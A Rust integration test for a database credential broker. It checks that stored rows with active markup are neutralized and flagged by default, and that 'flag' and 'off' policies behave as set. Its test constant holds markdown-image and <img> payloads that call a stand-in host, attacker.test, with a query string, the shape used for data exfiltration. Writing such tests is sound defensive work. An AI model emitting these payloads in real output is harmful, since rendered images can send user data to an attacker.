//! T11 through the whole broker: a stored row carrying active markup comes back defanged and
//! flagged by default, flagged only with `markup = "flag"`, untouched with `markup = "off"`.

mod common;

use common::*;
use serde_json::json;

const ROW: &str = "![x](https://attacker.test/c?d=1) <img src=//attacker.test/p.png> see https://attacker.test/";

async fn fixture(policy: Option<&str>) -> Fixture {
    let policy = policy.map(str::to_owned);
    let f = Fixture::start_with(move |t| match policy {
        Some(p) => t.replace("[handles.APP_DB.database]", &format!("[handles.APP_DB.results]\nmarkup = \"{p}\"\n[handles.APP_DB.database]")),
        None => t,
    })
    .await;
    let (status, v) = f
        .invoke("query_db", json!({"credential_handle": "RW_DB", "query": "INSERT INTO orders VALUES (10, ?, 1)", "params": [ROW]}))
        .await;
    assert_eq!(status, 200, "{v}");
    f
}

async fn read(f: &Fixture) -> serde_json::Value {
    let (status, v) = f.invoke("query_db", json!({"credential_handle": "APP_DB", "query": "SELECT item FROM orders WHERE id = 10"})).await;
    assert_eq!(status, 200, "{v}");
    v["result"].clone()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t11_stored_markup_is_neutralized_by_default() {
    let f = fixture(None).await;
    let r = read(&f).await;
    let cell = r["rows"][0][0].as_str().unwrap();
    assert!(!cell.contains("https://attacker.test") && !cell.contains("<img") && !cell.contains("!["), "{cell}");
    assert!(cell.contains("attacker.test"), "kept readable: {cell}");
    assert_eq!(r["untrusted_markup"]["action"], "neutralized", "{r}");
    assert!(r["untrusted_markup"]["count"].as_u64().unwrap() >= 3, "{r}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t11_flag_marks_and_off_leaves_the_text() {
    let f = fixture(Some("flag")).await;
    let r = read(&f).await;
    assert_eq!(r["rows"][0][0], ROW);
    assert_eq!(r["untrusted_markup"]["action"], "flagged", "{r}");
    let f = fixture(Some("off")).await;
    let r = read(&f).await;
    assert_eq!(r["rows"][0][0], ROW);
    assert!(r.get("untrusted_markup").is_none(), "{r}");
}
